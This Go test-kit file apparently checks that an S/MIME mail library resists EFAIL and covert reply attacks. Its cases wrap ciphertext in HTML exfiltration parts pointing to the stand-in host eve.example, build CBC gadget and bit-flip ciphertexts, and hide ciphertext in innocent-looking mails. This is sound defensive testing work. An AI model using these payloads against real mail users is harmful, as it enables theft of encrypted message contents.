package testkit

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"strings"

	"github.com/mailseal/mailseal/cms"
)

// efailCases: ciphertext beside the attacker's parts stays closed (CVE-2017-17688), and changed CBC says that it may be changed.
func (k *kit) efailCases() {
	w := k.world
	html := func(s string) string { return "Content-Type: text/html\r\n\r\n" + s }
	open, shut := html("<img src=\"http://eve.example/"), html("\">")
	for cipher, c := range each(k, map[string]cms.Cipher{"cbc": cms.AES256CBC, "gcm": cms.AES256GCM}) {
		part := pkcs7("enveloped-data", k.encrypt(pkcs7("signed-data", k.sign(letter, w.alice)), &cms.EncryptOptions{Cipher: c}, w.bob))
		whole := fromAlice(part)
		for name, entity := range each(k, map[string]string{
			"between":             multipart("mixed", open, part, shut),
			"alone":               multipart("mixed", part),
			"first":               multipart("mixed", part, open),
			"last":                multipart("mixed", open, part),
			"alternative":         multipart("alternative", open, part),
			"alternative-first":   multipart("alternative", part, open),
			"related":             multipart("related", open, part),
			"related-by-id":       multipart("related", html("<iframe src=\"cid:1\">"), "Content-ID: <1>\r\n"+part),
			"digest":              multipart("digest", "\r\n"+whole),
			"attached":            multipart("mixed", open, "Content-Type: message/rfc822\r\n\r\n"+whole),
			"forwarded":           "Content-Type: message/rfc822\r\n\r\n" + whole,
			"deep":                multipart("mixed", open, strings.ReplaceAll(multipart("mixed", part), "=_outer", "=_inner"), shut),
			"as-a-file":           multipart("mixed", open, strings.Replace(part, "application/pkcs7-mime; smime-type=enveloped-data", "application/octet-stream", 1)),
			"old-name":            multipart("mixed", open, strings.Replace(part, "pkcs7-mime", "x-pkcs7-mime", 1), shut),
			"twice":               multipart("mixed", part, part),
			"unknown-multipart":   multipart("x-unknown", open, part, shut),
			"report":              multipart("report", open, part, shut),
			"encrypted-multipart": multipart("encrypted; protocol=\"application/pkcs7-mime\"", open, part),
			"style":               multipart("mixed", html("<style>@import \"http://eve.example/"), part, html("</style>")),
			"form":                multipart("mixed", html("<form action=http://eve.example/><textarea name=x>"), part, html("</textarea><input type=submit>")),
			"table":               multipart("mixed", html("<table background=\"http://eve.example/"), part),
			"preamble":            strings.Replace(multipart("mixed", evil), "--=_outer", part+"\r\n--=_outer", 1),
			"behind-the-end":      multipart("mixed", evil) + part,
			"as-text":             "Content-Type: text/plain\r\n\r\n" + part,
			"partial":             "Content-Type: message/partial; id=x; number=1; total=1\r\n\r\n" + whole,
			"external":            "Content-Type: message/external-body; access-type=local-file; name=x\r\n\r\n" + part,
			"pgp-signed":          "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"=_outer\"\r\n\r\n--=_outer\r\n" + part + "\r\n--=_outer\r\nContent-Type: application/pgp-signature\r\n\r\nx\r\n--=_outer--\r\n",
		}) {
			mail := fromEve(entity)
			k.mail("efail/"+cipher+"-"+name, "ciphertext beside the attacker's parts: "+name, mail, shown(Unsigned, MIME, mail), keys("bob"), twin("honest/sealed"))
		}
		inside := multipart("mixed", open, part, shut)
		k.mail("efail/"+cipher+"-in-eves-signature", "ciphertext beside other parts, all signed by eve: it is hers, and the ciphertext stays closed", fromEve(pkcs7("signed-data", k.sign(inside, w.eve))), valid(inside), keys("bob"))
		k.mail("efail/"+cipher+"-in-eves-encryption", "ciphertext beside other parts, all encrypted by eve", fromEve(pkcs7("enveloped-data", k.encrypt(inside, nil, w.bob))), shown(Unsigned, MIME, inside), keys("bob"))
		k.mail("efail/"+cipher+"-in-a-signatures-place", "ciphertext in the place of a signature", fromEve(signedFields+"--"+boundary+"\r\n"+open+"\r\n--"+boundary+"\r\n"+part+"\r\n--"+boundary+"--\r\n"), refused(MIME), keys("bob"))
		k.mail("efail/"+cipher+"-signed-part", "ciphertext as the signed part of eve's signature, which is outside of the encryption", fromEve(multipartSigned(part, k.signDetached(part, w.eve))), invalid(Identity), keys("bob"))
	}
	k.gadgets()
}

// gadgets rearrange CBC: the first block is known, so its ciphertext and the vector make any text in front of every second block.
func (k *kit) gadgets() {
	w := k.world
	key, iv := bytes.Repeat([]byte{7}, 32), bytes.Repeat([]byte{9}, aes.BlockSize)
	for name, plain := range each(k, map[string]string{"unsigned": letter, "signed": pkcs7("signed-data", k.sign(letter, w.alice))}) {
		e := k.cbc(key, iv, []byte(plain))
		k.mail("efail/gadget-twin-"+name, "CBC as it was encrypted ("+name+" inside)", fromAlice(pkcs7("enveloped-data", e.der())), map[string]outcome{
			"unsigned": shown(Unsigned, MIME, letter), "signed": valid(letter)}[name], keys("bob"))
		want := []byte("<img src=http://")
		known := []byte(plain[:aes.BlockSize])
		vector := make([]byte, aes.BlockSize)
		for i := range vector {
			vector[i] = iv[i] ^ known[i] ^ want[i]
		}
		gadget := append(append([]byte{}, e.ciphertext[:aes.BlockSize]...), vector...)
		changed := append(append(gadget, e.ciphertext[:aes.BlockSize]...), e.ciphertext...)
		g := *e
		g.ciphertext = changed
		block, err := aes.NewCipher(key)
		k.check(err)
		out := make([]byte, len(changed))
		cipher.NewCBCDecrypter(block, iv).CryptBlocks(out, changed)
		out = out[:len(out)-int(out[len(out)-1])]
		k.mail("efail/gadget-"+name, "gadget blocks in CBC ciphertext ("+name+" inside)", fromAlice(pkcs7("enveloped-data", g.der())), shown(Unsigned, MIME, string(out)), keys("bob"), twin("efail/gadget-twin-"+name),
			policy("CBC cannot show the change: what decrypts is garbage in part, signed by nobody"))
		for flip, at := range each(k, map[string]int{"first": 0, "middle": len(e.ciphertext) / 2 / 16 * 16}) {
			f := *e
			f.ciphertext = append([]byte{}, e.ciphertext...)
			f.ciphertext[at] ^= 1
			cipher.NewCBCDecrypter(block, iv).CryptBlocks(out[:len(f.ciphertext)], f.ciphertext)
			text := string(out[:len(f.ciphertext)-int(out[len(f.ciphertext)-1])])
			want := shown(Unsigned, MIME, text)
			if name == "signed" {
				want = refused("")
			}
			k.mail("efail/flip-"+flip+"-"+name, "a bit of CBC ciphertext flipped ("+name+" inside)", fromAlice(pkcs7("enveloped-data", f.der())), want, keys("bob"), twin("efail/gadget-twin-"+name))
		}
	}
}

// covertCases hide a ciphertext in a mail that looks harmless, so that a reply quotes its plaintext (CVE-2019-11739).
func (k *kit) covertCases() {
	w := k.world
	part := pkcs7("enveloped-data", k.encrypt(letter, nil, w.bob))
	question := "Content-Type: text/plain\r\n\r\nDear Bob, what time shall we meet?\r\n"
	hide := func(s string) string { return "Content-Type: text/html\r\n\r\n" + s + "\r\n" }
	for name, entity := range each(k, map[string]string{
		"below":              multipart("mixed", question+strings.Repeat("\r\n", 200), part),
		"style":              multipart("mixed", hide("what time shall we meet?<div style=\"display:none\">"), part),
		"white-on-white":     multipart("mixed", hide("what time?<font color=white size=1>"), part),
		"blockquote":         multipart("mixed", hide("what time?<blockquote style=\"height:0;overflow:hidden\">"), part),
		"inline":             multipart("mixed", question, "Content-Disposition: inline\r\n"+part),
		"attachment":         multipart("mixed", question, strings.Replace(part, "attachment; filename=smime.p7m", "attachment; filename=holiday.jpg", 1)),
		"alternative-hidden": multipart("alternative", question, part),
		"related-hidden":     multipart("related", hide("what time?<object data=\"cid:1\">"), "Content-ID: <1>\r\n"+part),
		"forwarded-hidden":   multipart("mixed", question, "Content-Type: message/rfc822\r\n\r\n"+fromAlice(part)),
		"wrapped":            multipart("mixed", question, strings.ReplaceAll(multipart("mixed", part), "=_outer", "=_inner")),
	}) {
		mail := fromEve(entity)
		k.mail("covert/"+name, "ciphertext hidden in a harmless mail: "+name, mail, shown(Unsigned, MIME, mail), keys("bob"))
		k.mail("covert/signed-"+name, "ciphertext hidden in a mail that eve signed: "+name, fromEve(multipartSigned(entity, k.signDetached(entity, w.eve))), valid(entity), keys("bob"))
	}
}
